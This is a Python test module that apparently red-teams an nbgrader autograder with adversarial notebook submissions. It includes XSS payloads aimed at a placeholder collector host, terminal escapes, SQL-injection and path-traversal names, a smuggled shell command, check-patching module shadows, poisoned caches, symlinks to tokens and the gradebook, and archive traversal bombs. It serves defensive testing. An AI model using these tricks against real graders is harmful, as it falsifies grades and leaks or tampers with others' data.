"""Attacks by the files that are handed in: classes 7 (the notebook's JSON) and 8 (what lies beside it)."""

import base64
import io
import json
import tarfile
import zipfile

import nbformat

from tests.grading.attacks.on_checks import PATCH_CHECKS
from tests.grading.attacks.on_process import FIND_COURSE
from tests.grading.attacks.record import Effect, Stock, Submission, cells_of, registrar

ATTACKS = []

# What must not be active on a page.
SCRIPT = "acme-xss"
REMOTE = "https://collector.invalid/seen"


attack = registrar(ATTACKS)


def changed(kit, change, notebook=None):
    """Return a submission whose notebook's JSON went through `change` (in place, or to a new text)."""
    content = json.loads(nbformat.writes(notebook or kit.released()))
    text = change(content)
    return kit.folder(kit.released(), {kit.file: json.dumps(content) if text is None else text})


def by_id(content):
    """Return the cells of a notebook's JSON by grade id."""
    return {c["metadata"]["nbgrader"]["grade_id"]: c for c in content["cells"] if "nbgrader" in c["metadata"]}


# 7 notebook JSON --------------------------------------------------------------------------------------------


@attack(
    "skip-execution",
    (7,),
    "The tag `skip-execution` on every test cell: no output, no error, full marks.",
    Stock(Effect.POINTS, 30),
    line="skip-execution",
)
def skip_execution(kit):
    notebook = kit.released()
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution"]
    return notebook


@attack(
    "expected-error-tags",
    (7,),
    "Tags and metadata that other tools obey: `raises-exception`, `remove_cell`, a raw format, scrolled.",
    Stock(Effect.NONE, note="nbgrader looks at outputs all the same"),
)
def other_tags(kit):
    notebook = kit.functions("return 0.0")
    for cell in notebook.cells:
        cell.metadata["tags"] = ["raises-exception", "remove_cell", "nbval-skip", "hide-output", "remove_output"]
        cell.metadata["collapsed"] = True
    return notebook


@attack(
    "duplicated-test",
    (7,),
    "A test cell is there twice.",
    Stock(Effect.ABORTED),
    deserves=30,
    may_refuse=True,
    line="duplicated-test",
)
def duplicated_test(kit):
    notebook = kit.solved()
    for position, cell in enumerate(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == kit.tests[0]:
            notebook.cells.insert(position, nbformat.from_dict(dict(cell) | {"id": "again"}))
            return notebook
    raise AssertionError


@attack(
    "duplicated-answer",
    (7,),
    "An answer cell is there twice, with two different answers.",
    Stock(Effect.ABORTED),
    deserves=30,
    may_refuse=True,
)
def duplicated_answer(kit):
    notebook = kit.solved()
    cells = notebook.cells
    position = cells.index(cells_of(notebook)["mean_waiting_time"])
    cells.insert(
        position,
        nbformat.from_dict(dict(cells[position]) | {"id": "again", "source": "def mean_waiting_time(a): return 0"}),
    )
    return notebook


@attack(
    "terminal-escapes",
    (7, 8),
    "Names of cells, kernels and files hold escape sequences, for the terminal on which somebody reads the log.",
    Stock(Effect.ACTIVE),
)
def terminal_escapes(kit):
    escape = "\x1b]0;terminal-escapes\x07\x1b[2J"

    def change(content):
        content["metadata"]["kernelspec"] = {"name": escape, "display_name": escape, "language": escape}
        role = {"grade_id": escape, "grade": True, "points": 30, "locked": False, "solution": True, "schema_version": 3}
        cell = {"cell_type": "code", "source": "1", "outputs": [], "execution_count": None, "id": "escape"}
        content["cells"].append({**cell, "metadata": {"nbgrader": {**role, "task": False}}})

    made = changed(kit, change)
    return Submission(made.files, {f"{escape}.txt": "/dev/null", f"{escape}.ipynb": "nowhere"})


@attack("deleted-tests", (7,), "All test cells are deleted: nothing that could fail is left.", Stock(Effect.UNGRADED))
def deleted_tests(kit):
    notebook = kit.functions("return 0.0")
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return notebook


@attack(
    "reordered",
    (7,),
    "The cells come in the opposite order; the answers are right.",
    Stock(Effect.LOST, 2),
    deserves=30,
    may_refuse=True,
)
def reordered(kit):
    notebook = kit.solved()
    notebook.cells = notebook.cells[::-1]
    return notebook


@attack(
    "retyped-tests",
    (7,),
    "Test cells become text, so that they are not run.",
    Stock(Effect.NONE, note="nbgrader restores the type"),
)
def retyped_tests(kit):
    def change(content):
        for name in kit.tests:
            cell = by_id(content)[name]
            cell["cell_type"] = "markdown"
            del cell["outputs"], cell["execution_count"]

    return changed(kit, change, kit.functions("return 0.0"))


@attack(
    "retyped-answer",
    (7,),
    "A right answer became text with one wrong key (`y`, `m` in JupyterLab).",
    Stock(Effect.NONE, note="nbgrader restores the type"),
    deserves=30,
    may_refuse=True,
)
def retyped_answer(kit):
    def change(content):
        cell = by_id(content)["mean_waiting_time"]
        cell["cell_type"] = "markdown"
        del cell["outputs"], cell["execution_count"]

    return changed(kit, change, kit.solved())


@attack(
    "not-graded-flags",
    (7,),
    "The test cells say that they are not graded, but to be graded by hand.",
    Stock(Effect.UNGRADED),
)
def not_graded(kit):
    def change(content):
        for position, name in enumerate(kit.tests):
            cell = by_id(content)[name]["metadata"]["nbgrader"]
            cell["solution" if position % 2 else "grade"] = bool(position % 2)

    return changed(kit, change, kit.functions("return 0.0"))


@attack(
    "edited-points",
    (7,),
    "The points of the test cells become 1000, with a displayed 1000 to match; some are NaN, negative or text.",
    Stock(Effect.UNGRADED, note="and text as points stops this student's grading"),
)
def edited_points(kit):
    def change(content):
        points = [1000, -1000, float("nan"), float("inf"), "many", None, [2], 1e308]
        for name, value in zip(kit.tests, points * 2, strict=False):
            by_id(content)[name]["metadata"]["nbgrader"]["points"] = value

    return changed(kit, change, kit.functions("get_ipython().displayhook(1000.0) if 0 else None\nreturn 0.0"))


@attack(
    "schema-from-the-future",
    (7,),
    "The metadata say that a later nbgrader made them.",
    Stock(Effect.ABORTED),
    deserves=30,
    may_refuse=True,
)
def schema_of_the_future(kit):
    notebook = kit.solved()
    for cell in cells_of(notebook).values():
        cell.metadata.nbgrader.schema_version = 99
    return notebook


@attack(
    "unknown-cells",
    (7,),
    "Graded cells that no source has, named like paths and like code.",
    Stock(Effect.UNGRADED),
    deserves=30,
    may_refuse=True,
)
def unknown_cells(kit):
    notebook = kit.solved()
    for name in ("../../../gradebook", "<script>acme-xss</script>", "'; DROP TABLE grade; --", "bonus"):
        metadata = {
            "grade": True,
            "grade_id": name,
            "locked": False,
            "points": 50,
            "schema_version": 3,
            "solution": False,
            "task": False,
        }
        notebook.cells.append(nbformat.v4.new_code_cell("'ok'", metadata={"nbgrader": metadata}))
    return notebook


@attack(
    "kernel-of-another-language",
    (7,),
    "The notebook asks for a kernel that is not there, and for another language.",
    Stock(Effect.NONE, note="nbgrader puts its own kernel's name in"),
    deserves=30,
)
def other_kernel(kit):
    notebook = kit.solved()
    notebook.metadata.kernelspec = {"name": "ir; touch CANARY", "display_name": "R", "language": "R"}
    notebook.metadata.language_info = {"name": "R", "file_extension": ".sh", "codemirror_mode": "r"}
    return notebook


@attack(
    "metadata-of-wrong-types",
    (7,),
    "Metadata are lists and numbers where objects are expected.",
    Stock(Effect.UNGRADED),
    may_refuse=True,
)
def wrong_types(kit):
    def change(content):
        content["metadata"] = {"kernelspec": "python3", "language_info": 3}
        content["cells"][0]["metadata"] = {"nbgrader": [1, 2]}
        content["cells"][1]["source"] = {"a": 1}
        content["cells"][2] = None

    return changed(kit, change, kit.functions("return 0.0"))


@attack("broken-json", (7,), "The file ends in the middle.", Stock(Effect.UNGRADED), may_refuse=True)
def broken_json(kit):
    return kit.folder(kit.released(), {kit.file: nbformat.writes(kit.solved())[:-2000]})


@attack(
    "deep-json",
    (7, 9),
    "The metadata hold lists inside lists, a hundred thousand deep.",
    Stock(Effect.UNGRADED),
    may_refuse=True,
)
def deep_json(kit):
    text = nbformat.writes(kit.functions("return 0.0"))
    return kit.folder(
        kit.released(),
        {kit.file: text.replace('"metadata": {', '"metadata": {"x": ' + "[" * 100_000 + "]" * 100_000 + ",", 1)},
    )


@attack(
    "other-encoding", (7,), "The notebook is saved in UTF-16.", Stock(Effect.UNGRADED), deserves=30, may_refuse=True
)
def other_encoding(kit):
    return kit.folder(kit.released(), {kit.file: nbformat.writes(kit.solved()).encode("utf-16")})


@attack(
    "old-format",
    (7,),
    "A notebook of format 3, with its cells in a worksheet, and one of format 99.",
    Stock(Effect.UNGRADED),
    may_refuse=True,
)
def old_format(kit):
    def change(content):
        content["nbformat"], content["nbformat_minor"] = 99, 0

    return changed(kit, change, kit.functions("return 0.0"))


@attack(
    "huge-notebook",
    (7, 9),
    "Stored outputs of 60 MB, which say that all is well.",
    Stock(Effect.NONE, note="stored outputs are thrown away, after they were read"),
    may_refuse=True,
)
def huge_notebook(kit):
    def change(content):
        for cell in content["cells"]:
            if cell["cell_type"] == "code":
                text = {"text/plain": "2.0", "text/html": "x" * 2_400_000}
                cell["outputs"] = [
                    {"output_type": "execute_result", "data": text, "metadata": {}, "execution_count": 1}
                ]

    return changed(kit, change, kit.functions("return 0.0"))


HTML = f"""<script>alert('{SCRIPT}')</script>
<img src=x onerror="alert('{SCRIPT}')"> <svg onload="alert('{SCRIPT}')"></svg>
<iframe srcdoc="<script>alert('{SCRIPT}')</script>"></iframe>
<a href="javascript:alert('{SCRIPT}')">my answer</a> [here](javascript:alert('{SCRIPT}'))
<form action="{REMOTE}"><input name="{SCRIPT}"></form> <style>body {{background: url({REMOTE}?css)}}</style>
![]({REMOTE}?image) <meta http-equiv="refresh" content="0;url={REMOTE}?meta">
<math><mi xlink:href="javascript:alert('{SCRIPT}')">x</mi></math> <base href="{REMOTE}">"""


@attack(
    "script-in-an-answer",
    (7,),
    "The answer in words holds scripts, frames, forms and remote images, for the grader's browser.",
    Stock(Effect.ACTIVE),
    deserves=30,
)
def script_in_answer(kit):
    answer = f"Because the mean of a product differs.\n\n{HTML}"
    return kit.solved(**dict.fromkeys(kit.words, answer))


@attack("script-in-an-output", (7,), "A cell displays HTML, JavaScript and SVG.", Stock(Effect.ACTIVE), deserves=30)
def script_in_output(kit):
    show = f"""
try:
    from IPython.display import HTML, SVG, Javascript, display
    display(HTML({HTML!r}))
    display(Javascript("alert('{SCRIPT}')"))
    display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert('{SCRIPT}')</script></svg>"))
    display({{'text/markdown': {HTML!r}, 'text/latex': '$\\\\href{{javascript:{SCRIPT}}}{{x}}$'}}, raw=True)
except Exception:
    pass
"""
    answers = kit.answers()
    return kit.fill(answers | {"propensities": answers["propensities"] + show})


@attack(
    "script-in-an-error",
    (7, 10),
    "The text and the type of an error hold HTML and terminal codes.",
    Stock(Effect.NONE, note="the page shows it as text"),
    deserves=28,
)
def script_in_error(kit):
    source = f"""
def mean_waiting_time(propensities):
    print({HTML!r})
    kind = type("<script>alert('{SCRIPT}')</script>", (Exception,), {{}})
    raise kind("\\x1b]8;;{REMOTE}\\x07" + {HTML!r})
"""
    return kit.solved(mean_waiting_time=source.strip())


@attack(
    "script-in-an-attachment",
    (7,),
    "An attachment is a page with a script, linked and shown; another has a name that breaks out.",
    Stock(Effect.ACTIVE),
    deserves=30,
)
def script_in_attachment(kit):
    def change(content):
        cell = by_id(content)[kit.words[0]] if kit.words else content["cells"][0]
        page = base64.b64encode(f"<script>alert('{SCRIPT}')</script>".encode()).decode()
        name = f"x.png\" onerror=\"alert('{SCRIPT}')"
        cell["cell_type"] = "markdown"
        cell["attachments"] = {
            "page.html": {"text/html": page},
            name: {"image/png": f"x\" onerror=\"alert('{SCRIPT}')"},
            "y.png": {f'image/png" onerror="alert(\'{SCRIPT}\')" x="': page},
        }
        cell["source"] = (
            f'![x](attachment:page.html) [y](attachment:page.html) ![z](attachment:y.png) <img src="attachment:{name}">'
        )
        cell.pop("outputs", None)
        cell.pop("execution_count", None)

    return changed(kit, change, kit.solved())


@attack(
    "script-in-a-free-cell",
    (7,),
    "Cells of the student's own, of text, raw HTML and code, hold scripts.",
    Stock(Effect.ACTIVE),
    deserves=30,
)
def script_in_free_cell(kit):
    notebook = kit.solved()
    notebook.cells.append(nbformat.v4.new_markdown_cell(HTML))
    notebook.cells.append(nbformat.v4.new_raw_cell(HTML, metadata={"raw_mimetype": "text/html", "format": "text/html"}))
    notebook.cells.insert(0, nbformat.v4.new_code_cell(f"%%html\n{HTML}"))
    notebook.metadata["title"] = f"</title><script>alert('{SCRIPT}')</script>"
    return notebook


@attack(
    "script-in-a-hint",
    (7,),
    "The texts of the notebook itself, hints and questions, hold scripts.",
    Stock(Effect.ACTIVE),
)
def script_in_hint(kit):
    notebook = kit.released()
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and "nbgrader" not in cell.metadata:
            cell.source += f"\n\n{HTML}"
    return notebook


# 8 environment ----------------------------------------------------------------------------------------------


@attack(
    "shipped-numpy",
    (8, 2),
    "A `numpy.py` lies beside the notebook; it loads the real one, and patches the checks.",
    Stock(Effect.POINTS, 30),
)
def shipped_numpy(kit):
    shipped = (
        "import importlib, os, sys\nhere = os.path.dirname(os.path.abspath(__file__))\n"
        "del sys.modules['numpy']\nbefore = sys.path[:]\n"
        "sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != here]\n"
        f"import numpy\nsys.path[:] = before\n{PATCH_CHECKS}"
    )
    return kit.folder(kit.functions("return 0.0"), {"numpy.py": shipped})


FALSE_CHECKS = """\
import contextlib

import numpy

ANYTHING = None


@contextlib.contextmanager
def hidden_checks():
    yield numpy.random.default_rng()


def __getattr__(name):
    if name.startswith('__'):
        raise AttributeError(name)
    return lambda *given, **named: ([], {})
"""


@attack(
    "shipped-library",
    (8, 2),
    "A package `acme_lib` lies beside the notebook, whose checks do nothing.",
    Stock(Effect.POINTS, 30, own_library=False),
)
def shipped_library(kit):
    files = {"acme_lib/__init__.py": "", "acme_lib/teach/__init__.py": "", "acme_lib/teach/check.py": FALSE_CHECKS}
    return kit.folder(kit.functions("return 0.0"), files)


@attack(
    "shipped-launcher",
    (8, 3),
    "An `ipykernel_launcher.py` lies beside the notebook: the grader starts it in place of the kernel.",
    Stock(Effect.POINTS, 30),
)
def shipped_launcher(kit):
    launcher = (
        "import os, sys\nhere = os.path.dirname(os.path.abspath(__file__))\n"
        "sys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != here]\n"
        f"{PATCH_CHECKS}\nfrom ipykernel import kernelapp\nkernelapp.launch_new_instance()\n"
    )
    return kit.folder(kit.functions("return 0.0"), {"ipykernel_launcher.py": launcher})


MARK = FIND_COURSE + "\nif COURSE: (COURSE / 'started-NAME').write_text('CANARY')\n"


@attack(
    "start-up-files",
    (8,),
    "Files that tools load by name lie beside it: `sitecustomize.py`, `conftest.py`, `*.pth`, configurations.",
    Stock(Effect.NONE, note="nbgrader starts in the course's folder, the kernel ignores them"),
)
def start_up_files(kit):
    python = (
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "setup.py",
        "nbgrader_config.py",
        "ipython_config.py",
        "ipython_kernel_config.py",
        "jupyter_config.py",
        "jupyter_nbconvert_config.py",
        "_pytest.py",
        "__init__.py",
        "__main__.py",
        "json.py",
        "far_side.py",
        "wire.py",
    )
    files = {name: MARK.replace("NAME", name) for name in python}
    line = "import pathlib; pathlib.Path('started-pth').write_text('CANARY')\n"
    files |= {
        "evil.pth": line,
        "pyvenv.cfg": "home = .\n",
        "pytest.ini": "[pytest]\naddopts = -p conftest\n",
        ".env": "PYTHONPATH=.\n",
    }
    return kit.folder(kit.functions("return 0.0"), files)


@attack(
    "start-up-profile",
    (8, 6),
    "A script is put into IPython's profile of the grader: it spoils the kernels of everybody who comes after.",
    Stock(Effect.TAMPERED),
)
def start_up_profile(kit):
    code = """
import pathlib
folder = pathlib.Path.home() / '.ipython' / 'profile_default' / 'startup'
folder.mkdir(parents=True, exist_ok=True)
(folder / '00-gift.py').write_text("get_ipython().input_transformers_post.append(lambda lines: ['1/0\\\\n'])")
"""
    return kit.functions("return 0.0", code)


@attack(
    "poisoned-cache",
    (8, 6),
    "Compiled files of the checks, in the library's `__pycache__`, are replaced by ones that do nothing.",
    Stock(Effect.TAMPERED),
)
def poisoned_cache(kit):
    code = """
import importlib._bootstrap_external as boot, importlib.util, pathlib
origin = pathlib.Path(importlib.util.find_spec('acme_lib').origin).parent
source = origin / 'teach' / 'check_door.py'
cached = pathlib.Path(importlib.util.cache_from_source(str(source)))
cached.parent.mkdir(exist_ok=True)
code = compile(source.read_text() + "\\nimport numpy\\n", str(source), 'exec')
cached.write_bytes(boot._code_to_hash_pyc(code, b'\\0' * 8, False))
"""
    return kit.functions("return 0.0", code)


@attack(
    "poisoned-numba-index",
    (8, 6),
    "A compile cache of numba, which is a pickle, is written where the grader would load it.",
    Stock(Effect.TAMPERED),
)
def poisoned_numba(kit):
    code = """
import importlib.util, pathlib, pickle
origin = pathlib.Path(importlib.util.find_spec('acme_lib').origin).parent
folders = [origin / 'teach' / '__pycache__', pathlib.Path.home() / '.cache' / 'numba']
for folder in folders:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / 'kernel-1.py311.nbi').write_bytes(pickle.dumps('not an index'))
"""
    return kit.functions("return 0.0", code)


@attack(
    "linked-notebook",
    (8, 5),
    "The notebook is a symbolic link to the neighbour's.",
    Stock(Effect.POINTS, 30),
    may_refuse=True,
)
def linked_notebook(kit):
    target = f"../../zz-neighbour/{kit.assignment}/{kit.file}"
    return Submission({}, {kit.file: target})


@attack(
    "linked-files",
    (8, 5),
    "Symbolic links beside the notebook lead to the solution, the gradebook and the grader's home.",
    Stock(Effect.LEAKED),
    may_refuse=True,
)
def linked_files(kit):
    links = {
        "neighbour.txt": f"../../zz-neighbour/{kit.assignment}/{kit.file}",
        "token.txt": "../../../home/.token",
        "book.txt": "../../../gradebook.db",
    }
    return kit.folder(kit.functions("return 0.0"), links=links)


@attack(
    "broken-links",
    (8,),
    "Symbolic links lead to themselves and to nowhere.",
    Stock(Effect.UNGRADED),
    deserves=30,
)
def broken_links(kit):
    return kit.folder(kit.solved(), links={"loop": "loop", "missing.txt": "nowhere"})


@attack(
    "link-to-zeros",
    (8, 9),
    "A symbolic link leads to `/dev/zero`: who copies the folder copies for ever.",
    Stock(Effect.EXHAUSTED, 200 * 2**20, unit="peak", note="stopped by the test's own limit of 1 GB a file"),
    deserves=30,
)
def link_to_zeros(kit):
    return kit.folder(kit.solved(), links={"zeros.bin": "/dev/zero"})


@attack(
    "endless-time-stamp",
    (8, 9),
    "The time stamp is a symbolic link to `/dev/zero`: who copies or reads it does so for ever.",
    Stock(Effect.UNGRADED, alone=True, note="copied until the disk is full; here until the test's own limit of 1 GB"),
    deserves=30,
)
def endless_time_stamp(kit):
    return kit.folder(kit.solved(), links={"timestamp.txt": "/dev/zero"})


def archive_members():
    """Return the names of members that lead out of the folder."""
    return ["../outside-archive.txt", "../../../outside-archive.txt", "a/../../../outside-archive.txt"]


def _tar():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name in archive_members():
            entry = tarfile.TarInfo(name)
            entry.size = 6
            archive.addfile(entry, io.BytesIO(b"CANARY"))
        link = tarfile.TarInfo("door")
        link.type, link.linkname = tarfile.SYMTYPE, "../../.."
        archive.addfile(link)
        through = tarfile.TarInfo("door/outside-archive.txt")
        through.size = 6
        archive.addfile(through, io.BytesIO(b"CANARY"))
    return buffer.getvalue()


def _zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in archive_members():
            archive.writestr(name, "CANARY")
        archive.writestr("bomb.txt", b"\0" * (50 * 2**20))
    return buffer.getvalue()


def _naive_extraction(folder):
    inner = folder / "a" / "b" / "c"
    inner.mkdir(parents=True)
    with tarfile.open(fileobj=io.BytesIO(_tar())) as archive:
        archive.extract("../outside-archive.txt", inner, filter="fully_trusted")
    assert (inner.parent / "outside-archive.txt").exists()


@attack(
    "archive-with-traversal",
    (8,),
    "Archives beside the notebook have members that lead out of the folder, links, and a bomb.",
    Stock(Effect.NONE, note="autograde does not unpack; a naive unpacking writes outside", shown=_naive_extraction),
)
def archive(kit):
    files = {"work.tar.gz": _tar(), "work.zip": _zip(), f"{kit.file}.gz": _tar()}
    return kit.folder(kit.functions("return 0.0"), files)


@attack(
    "archive-only", (8,), "Only such archives are handed in, and no notebook.", Stock(Effect.UNGRADED), may_refuse=True
)
def archive_only(kit):
    return Submission({"work.tar.gz": _tar(), "work.zip": _zip()})
